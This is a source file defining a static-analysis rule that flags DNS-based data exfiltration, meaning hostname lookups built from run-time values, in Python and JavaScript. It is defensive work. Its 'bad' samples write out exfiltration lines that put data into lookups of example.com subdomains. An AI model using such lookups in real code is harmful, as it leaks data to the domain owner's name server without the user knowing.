import { argument, call, says } from "../match.ts";
import { defineRule } from "../rule.ts";
import { LOOKUPS } from "../vocabulary/network-calls.ts";

export default defineRule({
  id: "name-lookup-with-unknown-part",
  category: "api_exfiltration",
  severity: "medium",
  confidence: "low",
  languages: ["python", "javascript"],
  title: "a name is looked up of which a part is only known while it runs",
  why: "Data that is put into a name reaches the name server of whoever owns the domain.",
  fix: "Look up fixed names only.",
  references: ["ATT&CK T1048", "ATT&CK T1071.004"],
  match: call({ of: LOOKUPS, where: argument(0, says(/[^\x00-\x7f](\.[\w-]+)+\.[a-z]{2,}$/i)) }),
  bad: [
    'import socket\nsocket.gethostbyname(f"{part}.x.example.com")',
    'import dns.resolver\ndns.resolver.resolve(chunk + ".example.com", "TXT")',
  ],
  good: [
    'import socket\nsocket.gethostbyname("www.example.com")',
    "import socket\nsocket.gethostbyname(host)",
    'import socket\nsocket.gethostbyname(f"node{i}")',
  ],
});
